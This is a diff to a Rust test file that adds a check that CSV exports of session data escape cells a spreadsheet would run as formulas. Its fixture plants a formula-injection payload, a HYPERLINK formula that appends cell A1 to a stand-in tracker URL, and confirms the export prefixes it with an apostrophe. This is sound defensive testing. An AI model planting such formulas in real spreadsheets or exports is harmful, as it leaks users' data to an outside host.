@@ -1,6 +1,7 @@
 //! Feed dates and CSV line ends, as a reader's feed reader and a
 //! spreadsheet see them: entries dated when their file last changed in
-//! git, an empty track's feed dated by its meeting, rows ended by CRLF.
+//! git, an empty track's feed dated by its meeting, rows ended by CRLF,
+//! and no cell a spreadsheet would run as a formula.
 
 mod common;
 
@@ -130,5 +131,44 @@ fn csv_rows_end_with_crlf() {
         csv.matches("\r\n").count(),
         line_ends,
         "every line ends with CRLF: {csv:?}"
+    );
+}
+
+#[test]
+fn csv_cells_that_look_like_formulas_stay_text() {
+    let dir = copy_fixture("basic");
+    let report = dir.path().join("content/2020/sessions/ws-1.md");
+    common::replace_in(
+        &report,
+        "title: Data flows and privacy",
+        r#"title: '=HYPERLINK("https://tracker.example/?"&A1,"Data flows")'"#,
+    );
+    common::replace_in(
+        &report,
+        "  - Users must understand how their data is used.",
+        "  - \"+1 more: users must understand how their data is used.\"",
+    );
+    let out = dir.path().join("public");
+    build(dir.path(), &out);
+    let csv = read(&out, "data/2020-sessions.csv");
+    let mut rows = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
+    let headers = rows.headers().unwrap().clone();
+    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let row = (rows.records())
+        .map(Result::unwrap)
+        .find(|r| r[column("title")].contains("HYPERLINK"))
+        .expect("the report's row");
+    assert_eq!(
+        &row[column("title")],
+        r#"'=HYPERLINK("https://tracker.example/?"&A1,"Data flows")"#
+    );
+    assert_eq!(
+        &row[column("key_takeaway_2")],
+        "'+1 more: users must understand how their data is used."
+    );
+    assert_eq!(
+        &row[column("key_takeaway_1")],
+        "Data protection needs cooperation across borders.",
+        "ordinary text is left as it is"
     );
 }
